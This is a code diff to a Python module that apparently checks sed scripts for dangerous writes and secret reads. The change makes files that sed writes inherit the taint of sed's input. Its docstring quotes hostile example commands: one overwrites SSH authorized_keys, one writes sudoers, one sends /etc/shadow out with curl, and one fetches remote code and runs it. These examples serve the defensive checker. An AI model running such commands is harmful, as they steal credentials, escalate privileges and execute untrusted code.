@@ -4,9 +4,11 @@ GNU sed opens every ``w`` file (and the ``w`` flag's file of ``s``) when it read
 truncating it, and writes the selected lines there: ``sed -n 'w ~/.ssh/authorized_keys' k``
 replaces the authorized keys, ``sed 's/x/y/w /etc/sudoers.d/x' f`` writes sudoers. ``r FILE``
 and ``R FILE`` copy a file's lines into the output: ``sed '1r /etc/shadow' f | curl -d @- u``
-sends the shadow file. The script is read wherever sed gets one: ``-e``/``--expression``,
-the first operand, and ``-f FILE`` written earlier in the command (``_scripts.sed_tool``
-collects them). The file name runs to the end of the line (``;`` included), as sed reads it.
+sends the shadow file. A written file holds lines of sed's input and carries its taint
+(``curl u | sed -n 'w x.sh'; sh x.sh`` runs fetched code, like ``tee x.sh``). The script is
+read wherever sed gets one: ``-e``/``--expression``, the first operand, and ``-f FILE``
+written earlier in the command (``_scripts.sed_tool`` collects them). The file name runs to
+the end of the line (``;`` included), as sed reads it.
 
 The walk over the script follows sed's grammar: addresses (``1``, ``$``, ``/re/I``,
 ``\\cREc``, ``first~step``, ranges, ``!``), ``{``/``}`` blocks, ``;`` and newlines between
@@ -20,8 +22,9 @@ from __future__ import annotations
 from typing import TYPE_CHECKING
 
 from ._checks import check_args, check_write
+from ._paths import norm_path
 from ._secrets import secret_file
-from ._words import Field
+from ._words import NO_TAINT, Field, Taint
 
 if TYPE_CHECKING:
     from ._walk import Run
@@ -30,6 +33,7 @@ __all__ = ["sed_files"]
 
 _MAX_CHARS = 65536
 _MAX_FILES = 32
+_MAX_TRACKED = 256  # files the run tracks (as _files does)
 # sed's own names: w writes to the standard streams, r /dev/stdin reads the input.
 _SPECIAL = frozenset({"/dev/stdout", "/dev/stderr", "/dev/stdin"})
 # Commands taking the rest of the line as their argument (text, a file, a shell command).
@@ -38,9 +42,10 @@ _TO_EOL = frozenset("aicrRwWe")
 _TO_SEMI = frozenset(":btTqQlLv")
 
 
-def sed_files(run: Run, name: str, scripts: list[Field]) -> bool:
+def sed_files(run: Run, name: str, scripts: list[Field], given: Taint) -> bool:
     """Check the files the sed ``scripts`` write (like ``sed -i``'s) and read (a secret
-    read taints the output); True when a secret file is read."""
+    read taints the output); True when a secret file is read. A written file holds lines
+    of sed's input, so it carries that input's taint ``given`` (like ``tee FILE``)."""
     secret = False
     reads: list[Field] = []
     for script in scripts[:16]:
@@ -50,6 +55,9 @@ def sed_files(run: Run, name: str, scripts: list[Field]) -> bool:
             field = Field(path, script.span, script.taint)
             if kind in "wW":
                 check_write(run.add, run.cp.paths, field, run.cwd, f"{name} w writes")
+                written = norm_path(path, run.cwd)
+                if given and written is not None and len(run.files) < _MAX_TRACKED:
+                    run.files[written] = run.files.get(written, NO_TAINT) | given
             else:
                 reads.append(field)
     if reads:  # a secret by path (/etc/shadow: a read that blocks) or by name (.env)
